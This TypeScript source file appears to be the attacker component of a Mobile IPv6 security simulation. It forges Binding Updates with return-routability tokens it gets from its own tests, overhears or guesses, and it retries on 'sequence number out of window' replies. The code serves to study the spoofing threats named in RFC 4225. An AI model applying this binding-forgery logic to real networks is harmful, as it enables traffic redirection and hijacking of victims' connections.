/**
 * Forges a Binding Update with whatever tokens it can get, and follows status 135 to a sequence
 * number that is taken.
 *
 *     tests of its own address, or tests that it overhears -> tokens -> Binding Update -> 135? again
 *
 * Source: RFC 6275 sections 5.2.5, 5.2.6 and 15.4; RFC 4225 section 3.
 */
import {
  AUTHENTICATOR_SIZE,
  bindingManagementKey,
  signBindingAuthorization,
} from '../../../core/security/return-routability.ts';
import { wireLifetime } from '../../../core/signalling/signalling.ts';
import { type Address, parseAddress, UNSPECIFIED } from '../../../wire/address.ts';
import { BINDING_STATUS } from '../../../wire/numbers.ts';
import {
  type LayerInput,
  type MobilityOptionInput,
  serialisePacket,
} from '../../../wire/packet.ts';
import type { ForgedBinding, TokenOrigin } from '../../scenario/attacks.ts';
import type { Hands } from './attacker.ts';
import { innermost } from './overheard.ts';

interface Token {
  readonly nonceIndex: number;
  readonly octets: Uint8Array;
}

/** Answers that it follows before it gives up. */
const MOST_TRIES = 64;
const COOKIE = new Uint8Array(8).fill(0xbd);

export class BindingForger {
  readonly #attack: ForgedBinding;
  readonly #hands: Hands;
  #homeToken: Token | undefined;
  #careOfToken: Token | undefined;
  #sequence = 1;
  #tries = 0;
  #stage: 'listening' | 'asking' | 'telling' = 'listening';

  constructor(attack: ForgedBinding, hands: Hands) {
    this.#attack = attack;
    this.#hands = hands;
  }

  begin(): void {
    const { homeToken, careOfToken } = this.#attack;
    this.#stage = 'asking';
    if (homeToken === 'own') this.#ask({ layer: 'home-test-init', homeInitCookie: COOKIE });
    if (careOfToken === 'own') this.#ask({ layer: 'care-of-test-init', careOfInitCookie: COOKIE });
    this.#tell();
  }

  hear(octets: Uint8Array): void {
    const heard = innermost(octets);
    if (heard === undefined || heard.source !== this.#address(this.#attack.peer)) return;
    const { message, destination } = heard;
    if (message.layer === 'home-test') {
      const { homeToken, home } = this.#attack;
      if (destination !== this.#tested(homeToken, home)) return;
      this.#homeToken = { nonceIndex: message.nonceIndex, octets: message.homeKeygenToken };
      this.#tell();
    } else if (message.layer === 'care-of-test') {
      const { careOfToken, careOf } = this.#attack;
      if (destination !== this.#tested(careOfToken, careOf)) return;
      this.#careOfToken = { nonceIndex: message.nonceIndex, octets: message.careOfKeygenToken };
      this.#tell();
    } else if (message.layer === 'binding-acknowledgement') {
      const { status, sequence } = message;
      if (destination !== this.#hands.own || this.#stage !== 'telling') return;
      if (status !== BINDING_STATUS.sequenceNumberOutOfWindow) return;
      this.#sequence = (sequence + 1) & 0xffff;
      this.#update();
    }
  }

  /** The address whose test gives a token of this origin. */
  #tested(origin: TokenOrigin, address: string): Address | undefined {
    if (origin === 'guessed') return undefined;
    return origin === 'own' ? this.#hands.own : this.#address(address);
  }

  #address(text: string): Address {
    return this.#hands.address(text) ?? parseAddress(text) ?? UNSPECIFIED;
  }

  #ask(layer: LayerInput): void {
    const destination = this.#address(this.#attack.peer);
    this.#hands.send(
      serialisePacket([{ layer: 'ipv6', source: this.#hands.own, destination }, layer]),
    );
  }

  /** Sends the update, once it has what it waits for. */
  #tell(): void {
    const { homeToken, careOfToken, wait } = this.#attack;
    if (this.#stage !== 'asking') return;
    if (homeToken !== 'guessed' && this.#homeToken === undefined) return;
    if (careOfToken !== 'guessed' && this.#careOfToken === undefined) return;
    this.#stage = 'telling';
    const { simulation } = this.#hands;
    simulation.in(wait, () => this.#update());
  }

  #update(): void {
    this.#tries += 1;
    if (this.#tries > MOST_TRIES) return;
    const { homeRegistration, lifetime } = this.#attack;
    const { own, crypto } = this.#hands;
    const peer = this.#address(this.#attack.peer);
    const home = this.#address(this.#attack.home);
    const careOf = this.#address(this.#attack.careOf);
    const packet = serialisePacket([
      { layer: 'ipv6', source: own, destination: peer },
      ...(home === own ? [] : [homeAddress(home)]),
      {
        layer: 'binding-update',
        sequence: this.#sequence,
        acknowledge: true,
        homeRegistration,
        lifetime: wireLifetime(lifetime),
        options: [
          { option: 'alternate-care-of-address', careOfAddress: careOf },
          ...(homeRegistration ? [] : this.#proof()),
        ],
      },
    ]);
    if (!homeRegistration) {
      const key = bindingManagementKey(
        crypto,
        (this.#homeToken ?? GUESS).octets,
        (this.#careOfToken ?? GUESS).octets,
      );
      signBindingAuthorization(crypto, packet, key, { careOf, correspondent: peer });
    }
    this.#hands.send(packet);
  }

  /** A guess is one at a nonce that is alive: that of the other token. */
  #proof(): MobilityOptionInput[] {
    const home = this.#homeToken ?? this.#careOfToken ?? GUESS;
    const careOf = this.#careOfToken ?? this.#homeToken ?? GUESS;
    return [
      {
        option: 'nonce-indices',
        homeNonceIndex: home.nonceIndex,
        careOfNonceIndex: careOf.nonceIndex,
      },
      {
        option: 'binding-authorization-data',
        authenticator: new Uint8Array(AUTHENTICATOR_SIZE),
      },
    ];
  }
}

/** Not 0, which stands for a permanent token (RFC 4866). */
const GUESS: Token = { nonceIndex: 1, octets: new Uint8Array(8) };

const homeAddress = (home: Address): LayerInput => ({
  layer: 'destination-options',
  options: [{ option: 'home-address', homeAddress: home }],
});
